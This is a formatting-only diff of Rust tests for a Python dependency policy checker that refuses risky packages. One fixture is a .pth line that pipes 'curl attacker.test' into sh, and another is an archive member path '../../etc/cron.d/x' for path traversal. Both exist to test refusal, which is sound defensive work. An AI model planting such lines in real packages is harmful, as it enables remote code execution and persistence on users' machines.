@@ -14,7 +14,10 @@ const COMMIT: &str = "0123456789abcdef0123456789abcdef01234567";
 
 #[test]
 fn default_preset_passes_good_facts() {
-    assert_approved(judge("", &set(vec![package("requests", "2.32.3"), package("idna", "3.7")])));
+    assert_approved(judge(
+        "",
+        &set(vec![package("requests", "2.32.3"), package("idna", "3.7")]),
+    ));
 }
 
 // sources.index
@@ -22,7 +25,9 @@ fn default_preset_passes_good_facts() {
 #[test]
 fn index_not_configured_is_refused() {
     let mut foo = package("foo", "1.0");
-    foo.source = Source::Index { url: url("https://other.example/simple/") };
+    foo.source = Source::Index {
+        url: url("https://other.example/simple/"),
+    };
     assert_refused(judge("", &set(vec![foo])), RuleId::SourcesIndex);
 }
 
@@ -34,8 +39,14 @@ fn index_set_by_requirements_file_is_refused_unless_listed() {
         line: 1,
     };
     let refusals = assert_refused(judge("", &facts), RuleId::SourcesIndex);
-    assert!(refusals.to_string().contains("requirements.txt"), "{refusals}");
-    assert_approved(judge(&format!("[sources]\nindexes = [\"{INDEX}\"]\n"), &facts));
+    assert!(
+        refusals.to_string().contains("requirements.txt"),
+        "{refusals}"
+    );
+    assert_approved(judge(
+        &format!("[sources]\nindexes = [\"{INDEX}\"]\n"),
+        &facts,
+    ));
 }
 
 #[test]
@@ -51,7 +62,10 @@ fn extra_index_must_be_listed() {
     });
     assert_refused(judge("", &facts), RuleId::SourcesIndex);
     // A trailing slash does not make it another index.
-    assert_approved(judge(&format!("[sources]\nindexes = [\"{extra}/\"]\n"), &facts));
+    assert_approved(judge(
+        &format!("[sources]\nindexes = [\"{extra}/\"]\n"),
+        &facts,
+    ));
 }
 
 #[test]
@@ -60,8 +74,14 @@ fn name_on_two_indexes_is_refused_unless_pinned() {
     foo.also_on_indexes = vec![url("https://private.example/simple/")];
     let facts = set(vec![foo]);
     let refusals = assert_refused(judge("", &facts), RuleId::SourcesIndex);
-    assert!(refusals.to_string().contains("dependency confusion"), "{refusals}");
-    assert_approved(judge(&format!("[sources.packages]\ninternal-lib = \"{INDEX}\"\n"), &facts));
+    assert!(
+        refusals.to_string().contains("dependency confusion"),
+        "{refusals}"
+    );
+    assert_approved(judge(
+        &format!("[sources.packages]\ninternal-lib = \"{INDEX}\"\n"),
+        &facts,
+    ));
 }
 
 #[test]
@@ -83,13 +103,24 @@ fn direct_url_needs_package_and_prefix() {
     let facts = set(vec![foo]);
     let refusals = assert_refused(judge("", &facts), RuleId::SourcesDirectUrl);
     let shown = refusals.to_string();
-    assert!(!shown.contains("secret") && !shown.contains("token"), "{shown}");
+    assert!(
+        !shown.contains("secret") && !shown.contains("token"),
+        "{shown}"
+    );
     let allow = |package: &str, prefix: &str| {
-        format!("[sources]\ndirect-url-allow = [{{ package = \"{package}\", url = \"{prefix}\" }}]\n")
+        format!(
+            "[sources]\ndirect-url-allow = [{{ package = \"{package}\", url = \"{prefix}\" }}]\n"
+        )
     };
     assert_approved(judge(&allow("foo", "https://files.example/foo"), &facts));
-    assert_refused(judge(&allow("bar", "https://files.example/foo"), &facts), RuleId::SourcesDirectUrl);
-    assert_refused(judge(&allow("foo", "https://files.example/fo"), &facts), RuleId::SourcesDirectUrl);
+    assert_refused(
+        judge(&allow("bar", "https://files.example/foo"), &facts),
+        RuleId::SourcesDirectUrl,
+    );
+    assert_refused(
+        judge(&allow("foo", "https://files.example/fo"), &facts),
+        RuleId::SourcesDirectUrl,
+    );
 }
 
 // sources.vcs, sources.vcs-unpinned
@@ -112,7 +143,10 @@ fn vcs_needs_allow_and_full_commit() {
     let just_sdist = "[artifacts]\nsdist-allow = [\"foo\"]\n";
     assert_refused(judge(just_sdist, &vcs(COMMIT)), RuleId::SourcesVcs);
     assert_refused(judge(allow, &vcs("main")), RuleId::SourcesVcsUnpinned);
-    assert_refused(judge(allow, &vcs(&COMMIT[..12])), RuleId::SourcesVcsUnpinned);
+    assert_refused(
+        judge(allow, &vcs(&COMMIT[..12])),
+        RuleId::SourcesVcsUnpinned,
+    );
     assert_approved(judge(allow, &vcs(COMMIT)));
     // A look-alike organisation is not under the prefix.
     let evil = "[sources]\nvcs-allow = [{ package = \"foo\", url = \"https://git.example/or\" }]\n[artifacts]\nsdist-allow = [\"foo\"]\n";
@@ -156,7 +190,10 @@ fn artifacts_need_a_pinned_hash_from_an_accepted_source() {
 
     // The ci preset accepts only pins made in advance.
     let ci = "extends = \"ci\"\n[releases]\nmin-release-age = \"0\"\n";
-    assert_refused(judge(ci, &set(vec![package("foo", "1.0")])), RuleId::ArtifactsHashes);
+    assert_refused(
+        judge(ci, &set(vec![package("foo", "1.0")])),
+        RuleId::ArtifactsHashes,
+    );
     let mut locked = package("foo", "1.0");
     locked.artifact.sha256.as_mut().unwrap().origin = HashOrigin::Lockfile;
     assert_approved(judge(ci, &set(vec![locked])));
@@ -171,9 +208,16 @@ fn sdists_are_refused_unless_allowed() {
     foo.artifact.filename = "foo-1.0.tar.gz".to_string();
     let facts = set(vec![foo]);
     let refusals = assert_refused(judge("", &facts), RuleId::ArtifactsSdist);
-    assert!(refusals.refusals()[0].fix.contains("[artifacts] sdist-allow"));
+    assert!(
+        refusals.refusals()[0]
+            .fix
+            .contains("[artifacts] sdist-allow")
+    );
     assert_approved(judge("[artifacts]\nsdist-allow = [\"foo\"]\n", &facts));
-    assert_refused(judge("[artifacts]\nsdist-allow = [\"bar\"]\n", &facts), RuleId::ArtifactsSdist);
+    assert_refused(
+        judge("[artifacts]\nsdist-allow = [\"bar\"]\n", &facts),
+        RuleId::ArtifactsSdist,
+    );
 }
 
 // releases.yanked
@@ -185,7 +229,10 @@ fn yanked_is_refused_even_pinned() {
     let facts = set(vec![foo]);
     assert_refused(judge("", &facts), RuleId::ReleasesYanked);
     assert_approved(judge("[releases]\nyanked-allow = [\"foo==1.0\"]\n", &facts));
-    assert_refused(judge("[releases]\nyanked-allow = [\"foo==1.1\"]\n", &facts), RuleId::ReleasesYanked);
+    assert_refused(
+        judge("[releases]\nyanked-allow = [\"foo==1.1\"]\n", &facts),
+        RuleId::ReleasesYanked,
+    );
 }
 
 // releases.min-age
@@ -195,7 +242,10 @@ fn young_releases_wait() {
     let week = "[releases]\nmin-release-age = \"7 days\"\n";
     let mut young = package("foo", "1.0");
     young.upload_time = Some("2025-05-30T00:00:00Z".parse().unwrap());
-    let refusals = assert_refused(judge(week, &set(vec![young.clone()])), RuleId::ReleasesMinAge);
+    let refusals = assert_refused(
+        judge(week, &set(vec![young.clone()])),
+        RuleId::ReleasesMinAge,
+    );
     assert!(refusals.to_string().contains("2 days"), "{refusals}");
     assert_approved(judge(week, &set(vec![package("foo", "1.0")])));
     // Per-package override.
@@ -206,7 +256,13 @@ fn young_releases_wait() {
     // A release fixing a known vulnerability may skip the wait, if the policy says so.
     young.fixes_known_vulnerability = true;
     assert_approved(judge(week, &set(vec![young.clone()])));
-    assert_refused(judge("extends = \"strict\"\n[attestations]\nmode = \"off\"\n", &set(vec![young])), RuleId::ReleasesMinAge);
+    assert_refused(
+        judge(
+            "extends = \"strict\"\n[attestations]\nmode = \"off\"\n",
+            &set(vec![young]),
+        ),
+        RuleId::ReleasesMinAge,
+    );
 }
 
 #[test]
@@ -214,7 +270,10 @@ fn unknown_upload_time_fails_closed() {
     let mut foo = package("foo", "1.0");
     foo.upload_time = None;
     let facts = set(vec![foo]);
-    assert_refused(judge("[releases]\nmin-release-age = \"12h\"\n", &facts), RuleId::ReleasesMinAge);
+    assert_refused(
+        judge("[releases]\nmin-release-age = \"12h\"\n", &facts),
+        RuleId::ReleasesMinAge,
+    );
     assert_approved(judge("", &facts));
 }
 
@@ -223,22 +282,40 @@ fn unknown_upload_time_fails_closed() {
 #[test]
 fn deny_entries_with_specifiers() {
     let toml = "[packages]\ndeny = [\"evilpkg\", \"foo<2.1\"]\n";
-    assert_refused(judge(toml, &set(vec![package("evilpkg", "9.9")])), RuleId::PackagesDeny);
-    assert_refused(judge(toml, &set(vec![package("foo", "2.0")])), RuleId::PackagesDeny);
+    assert_refused(
+        judge(toml, &set(vec![package("evilpkg", "9.9")])),
+        RuleId::PackagesDeny,
+    );
+    assert_refused(
+        judge(toml, &set(vec![package("foo", "2.0")])),
+        RuleId::PackagesDeny,
+    );
     assert_approved(judge(toml, &set(vec![package("foo", "2.1")])));
     // Names are normalized.
-    assert_refused(judge("[packages]\ndeny = [\"Evil_Pkg\"]\n", &set(vec![package("evil-pkg", "1")])), RuleId::PackagesDeny);
+    assert_refused(
+        judge(
+            "[packages]\ndeny = [\"Evil_Pkg\"]\n",
+            &set(vec![package("evil-pkg", "1")]),
+        ),
+        RuleId::PackagesDeny,
+    );
 }
 
 #[test]
 fn allow_entries_and_allow_only() {
     let facts = set(vec![package("requests", "2.32.3"), package("idna", "3.7")]);
     assert_approved(judge("[packages]\nallow = [\"requests>=2.31\"]\n", &facts));
-    assert_refused(judge("[packages]\nallow = [\"requests<2\"]\n", &facts), RuleId::PackagesAllow);
+    assert_refused(
+        judge("[packages]\nallow = [\"requests<2\"]\n", &facts),
+        RuleId::PackagesAllow,
+    );
     let only = "[packages]\nallow = [\"requests\"]\nallow-only = true\n";
     let refusals = assert_refused(judge(only, &facts), RuleId::PackagesAllow);
     assert_eq!(refusals.refusals()[0].package.as_ref(), "idna");
-    assert_approved(judge("[packages]\nallow = [\"requests\", \"idna\"]\nallow-only = true\n", &facts));
+    assert_approved(judge(
+        "[packages]\nallow = [\"requests\", \"idna\"]\nallow-only = true\n",
+        &facts,
+    ));
 }
 
 // licenses
@@ -253,13 +330,25 @@ fn licenses_allow_deny_and_unknown() {
     let allow = "[licenses]\nallow = [\"MIT\", \"Apache-2.0\"]\n";
     assert_refused(judge(allow, &with(Some("GPL-3.0-only"))), RuleId::Licenses);
     assert_approved(judge(allow, &with(Some("GPL-3.0-only OR Apache-2.0"))));
-    assert_refused(judge(allow, &with(Some("MIT AND GPL-3.0-only"))), RuleId::Licenses);
+    assert_refused(
+        judge(allow, &with(Some("MIT AND GPL-3.0-only"))),
+        RuleId::Licenses,
+    );
     assert_refused(judge(allow, &with(None)), RuleId::Licenses);
     assert_approved(judge(&format!("{allow}unknown = \"allow\"\n"), &with(None)));
-    assert_approved(judge(&format!("{allow}exceptions = [\"foo\"]\n"), &with(Some("GPL-3.0-only"))));
+    assert_approved(judge(
+        &format!("{allow}exceptions = [\"foo\"]\n"),
+        &with(Some("GPL-3.0-only")),
+    ));
     // Without an allowlist, only the deny list matters.
     assert_approved(judge("", &with(None)));
-    assert_refused(judge("[licenses]\ndeny = [\"AGPL-3.0-only\"]\n", &with(Some("AGPL-3.0-only"))), RuleId::Licenses);
+    assert_refused(
+        judge(
+            "[licenses]\ndeny = [\"AGPL-3.0-only\"]\n",
+            &with(Some("AGPL-3.0-only")),
+        ),
+        RuleId::Licenses,
+    );
 
     let mut classified = package("bar", "1.0");
     classified.license.expression = None;
@@ -280,20 +369,37 @@ fn with_pth(project: &str, file: &str, line: &str) -> safevenv_policy::PackageFa
 
 #[test]
 fn executable_pth_is_refused() {
-    let evil = with_pth("foo", "foo.pth", "import os; os.system('curl attacker.test | sh')");
+    let evil = with_pth(
+        "foo",
+        "foo.pth",
+        "import os; os.system('curl attacker.test | sh')",
+    );
     let refusals = assert_refused(judge("", &set(vec![evil])), RuleId::ContentsPthExec);
     assert!(refusals.to_string().contains("foo.pth"));
     // Plain path lines are not code.
-    assert_approved(judge("", &set(vec![with_pth("foo", "foo.pth", "/opt/foo/lib")])));
+    assert_approved(judge(
+        "",
+        &set(vec![with_pth("foo", "foo.pth", "/opt/foo/lib")]),
+    ));
     // The exemption is by package AND file.
     let allow = "[contents]\npth-exec-allow = [{ package = \"foo\", file = \"foo.pth\" }]\n";
-    assert_approved(judge(allow, &set(vec![with_pth("foo", "foo.pth", "import foo")])));
-    assert_refused(judge(allow, &set(vec![with_pth("bar", "foo.pth", "import foo")])), RuleId::ContentsPthExec);
+    assert_approved(judge(
+        allow,
+        &set(vec![with_pth("foo", "foo.pth", "import foo")]),
+    ));
+    assert_refused(
+        judge(allow, &set(vec![with_pth("bar", "foo.pth", "import foo")])),
+        RuleId::ContentsPthExec,
+    );
 }
 
 #[test]
 fn default_preset_knows_the_legitimate_pth_files() {
-    let setuptools = with_pth("setuptools", "distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'");
+    let setuptools = with_pth(
+        "setuptools",
+        "distutils-precedence.pth",
+        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'",
+    );
     assert_approved(judge("", &set(vec![setuptools])));
     // Another project may not borrow setuptools' exemption.
     let impostor = with_pth("setuptool", "distutils-precedence.pth", "import os");
@@ -322,8 +428,15 @@ fn shared_files_are_refused() {
     let shared = "lib/python3.12/site-packages/requests/__init__.py".to_string();
     a.contents.as_mut().unwrap().files.push(shared.clone());
     b.contents.as_mut().unwrap().files.push(shared.clone());
-    let refusals = assert_refused(judge("", &set(vec![a.clone(), b.clone()])), RuleId::ContentsOverwrite);
-    assert_eq!(refusals.refusals().len(), 2, "both sides are reported:\n{refusals}");
+    let refusals = assert_refused(
+        judge("", &set(vec![a.clone(), b.clone()])),
+        RuleId::ContentsOverwrite,
+    );
+    assert_eq!(
+        refusals.refusals().len(),
+        2,
+        "both sides are reported:\n{refusals}"
+    );
     let allow = "[contents]\noverwrite-allow = [{ package = \"*\", file = \"*/site-packages/requests/__init__.py\" }]\n";
     assert_approved(judge(allow, &set(vec![a.clone(), b])));
 
@@ -351,7 +464,12 @@ fn shared_files_are_refused() {
 #[test]
 fn stdlib_names_are_refused_per_version() {
     let mut shadow = package("jsonlib", "1.0");
-    shadow.contents.as_mut().unwrap().top_level.push("json".to_string());
+    shadow
+        .contents
+        .as_mut()
+        .unwrap()
+        .top_level
+        .push("json".to_string());
     assert_refused(judge("", &set(vec![shadow])), RuleId::ContentsStdlibShadow);
 
     let mut cgi = package("legacy-cgi", "2.6");
@@ -362,7 +480,8 @@ fn stdlib_names_are_refused_per_version() {
     assert_approved(judge("", &facts));
     facts.python_version = None;
     assert_refused(judge("", &facts), RuleId::ContentsStdlibShadow);
-    let allow = "[contents]\nstdlib-shadow-allow = [{ package = \"legacy-cgi\", module = \"cgi\" }]\n";
+    let allow =
+        "[contents]\nstdlib-shadow-allow = [{ package = \"legacy-cgi\", module = \"cgi\" }]\n";
     assert_approved(judge(allow, &facts));
 }
 
@@ -372,16 +491,33 @@ fn stdlib_names_are_refused_per_version() {
 fn reserved_and_shared_scripts_are_refused() {
     let with_script = |project: &str, script: &str| {
         let mut facts = package(project, "1.0");
-        facts.contents.as_mut().unwrap().scripts.push(script.to_string());
+        facts
+            .contents
+            .as_mut()
+            .unwrap()
+            .scripts
+            .push(script.to_string());
         facts
     };
-    assert_refused(judge("", &set(vec![with_script("foo", "python3")])), RuleId::ContentsScriptClash);
-    assert_refused(judge("", &set(vec![with_script("foo", "pip3.12")])), RuleId::ContentsScriptClash);
-    assert_refused(judge("", &set(vec![with_script("foo", "activate")])), RuleId::ContentsScriptClash);
+    assert_refused(
+        judge("", &set(vec![with_script("foo", "python3")])),
+        RuleId::ContentsScriptClash,
+    );
+    assert_refused(
+        judge("", &set(vec![with_script("foo", "pip3.12")])),
+        RuleId::ContentsScriptClash,
+    );
+    assert_refused(
+        judge("", &set(vec![with_script("foo", "activate")])),
+        RuleId::ContentsScriptClash,
+    );
     assert_approved(judge("", &set(vec![with_script("pip", "pip3.12")])));
     assert_approved(judge("", &set(vec![with_script("foo", "foo-cli")])));
     assert_refused(
-        judge("", &set(vec![with_script("foo", "tool"), with_script("bar", "tool")])),
+        judge(
+            "",
+            &set(vec![with_script("foo", "tool"), with_script("bar", "tool")]),
+        ),
         RuleId::ContentsScriptClash,
     );
     let mut facts = set(vec![with_script("foo", "black")]);
@@ -398,11 +534,15 @@ fn reserved_and_shared_scripts_are_refused() {
 #[test]
 fn archive_problems_are_always_refused() {
     let mut foo = package("foo", "1.0");
-    foo.contents.as_mut().unwrap().archive_problems.push(ArchiveProblem {
-        kind: ArchiveProblemKind::PathTraversal,
-        member: Some("../../etc/cron.d/x".to_string()),
-        detail: "member escapes the install directory".to_string(),
-    });
+    foo.contents
+        .as_mut()
+        .unwrap()
+        .archive_problems
+        .push(ArchiveProblem {
+            kind: ArchiveProblemKind::PathTraversal,
+            member: Some("../../etc/cron.d/x".to_string()),
+            detail: "member escapes the install directory".to_string(),
+        });
     let facts = set(vec![foo]);
     assert_refused(judge("", &facts), RuleId::ContentsArchive);
     // Nothing in a policy can allow it.
@@ -428,34 +568,53 @@ fn publisher(repository: &str, workflow: &str) -> Publisher {
 #[test]
 fn attestation_modes_and_pins() {
     let require = "[attestations]\nmode = \"require\"\n";
-    assert_refused(judge(require, &set(vec![package("requests", "2.32.3")])), RuleId::Attestations);
+    assert_refused(
+        judge(require, &set(vec![package("requests", "2.32.3")])),
+        RuleId::Attestations,
+    );
 
     let mut invalid = package("requests", "2.32.3");
     invalid.attestation.status = AttestationStatus::Invalid {
         reason: "signature does not match".to_string(),
     };
     assert_refused(judge("", &set(vec![invalid.clone()])), RuleId::Attestations);
-    assert_approved(judge("[attestations]\nmode = \"off\"\n", &set(vec![invalid])));
+    assert_approved(judge(
+        "[attestations]\nmode = \"off\"\n",
+        &set(vec![invalid]),
+    ));
 
     let mut verified = package("requests", "2.32.3");
-    verified.attestation.status = AttestationStatus::Verified(publisher("psf/requests", "publish.yml"));
+    verified.attestation.status =
+        AttestationStatus::Verified(publisher("psf/requests", "publish.yml"));
     let facts = set(vec![verified]);
     assert_approved(judge(require, &facts));
     let pin = |repository: &str| {
-        format!("[attestations.packages]\nrequests = {{ repository = \"{repository}\", workflow = \"publish.yml\" }}\n")
+        format!(
+            "[attestations.packages]\nrequests = {{ repository = \"{repository}\", workflow = \"publish.yml\" }}\n"
+        )
     };
     assert_approved(judge(&pin("PSF/requests"), &facts));
     assert_refused(judge(&pin("evil/requests"), &facts), RuleId::Attestations);
     // A pin implies `require`.
-    assert_refused(judge(&pin("psf/requests"), &set(vec![package("requests", "2.32.3")])), RuleId::Attestations);
+    assert_refused(
+        judge(
+            &pin("psf/requests"),
+            &set(vec![package("requests", "2.32.3")]),
+        ),
+        RuleId::Attestations,
+    );
 }
 
 #[test]
 fn publisher_change_needs_acceptance() {
     let mut changed = package("requests", "2.32.3");
-    changed.attestation.status = AttestationStatus::Verified(publisher("someone/requests", "release.yml"));
+    changed.attestation.status =
+        AttestationStatus::Verified(publisher("someone/requests", "release.yml"));
     changed.attestation.locked_publisher = Some(publisher("psf/requests", "publish.yml"));
-    assert_refused(judge("", &set(vec![changed.clone()])), RuleId::AttestationsPublisherChange);
+    assert_refused(
+        judge("", &set(vec![changed.clone()])),
+        RuleId::AttestationsPublisherChange,
+    );
     changed.attestation.publisher_change_accepted = true;
     assert_approved(judge("", &set(vec![changed])));
 
@@ -466,7 +625,10 @@ fn publisher_change_needs_acceptance() {
 
     let mut dropped = package("requests", "2.32.3");
     dropped.attestation.locked_publisher = Some(publisher("psf/requests", "publish.yml"));
-    assert_refused(judge("", &set(vec![dropped])), RuleId::AttestationsPublisherChange);
+    assert_refused(
+        judge("", &set(vec![dropped])),
+        RuleId::AttestationsPublisherChange,
+    );
 }
 
 // vulnerabilities
@@ -482,11 +644,26 @@ fn vulnerabilities_by_severity_and_ignore() {
         });
         set(vec![foo])
     };
-    assert_refused(judge("", &with(Some(Severity::Critical))), RuleId::Vulnerabilities);
+    assert_refused(
+        judge("", &with(Some(Severity::Critical))),
+        RuleId::Vulnerabilities,
+    );
     assert_approved(judge("", &with(Some(Severity::Medium))));
-    assert_refused(judge("[vulnerabilities]\nseverity = \"medium\"\n", &with(Some(Severity::Medium))), RuleId::Vulnerabilities);
+    assert_refused(
+        judge(
+            "[vulnerabilities]\nseverity = \"medium\"\n",
+            &with(Some(Severity::Medium)),
+        ),
+        RuleId::Vulnerabilities,
+    );
     // No severity stated: fail closed.
     assert_refused(judge("", &with(None)), RuleId::Vulnerabilities);
-    assert_approved(judge("[vulnerabilities]\nignore = [\"CVE-2024-0001\"]\n", &with(None)));
-    assert_approved(judge("[vulnerabilities]\ndeny = false\n", &with(Some(Severity::Critical))));
+    assert_approved(judge(
+        "[vulnerabilities]\nignore = [\"CVE-2024-0001\"]\n",
+        &with(None),
+    ));
+    assert_approved(judge(
+        "[vulnerabilities]\ndeny = false\n",
+        &with(Some(Severity::Critical)),
+    ));
 }
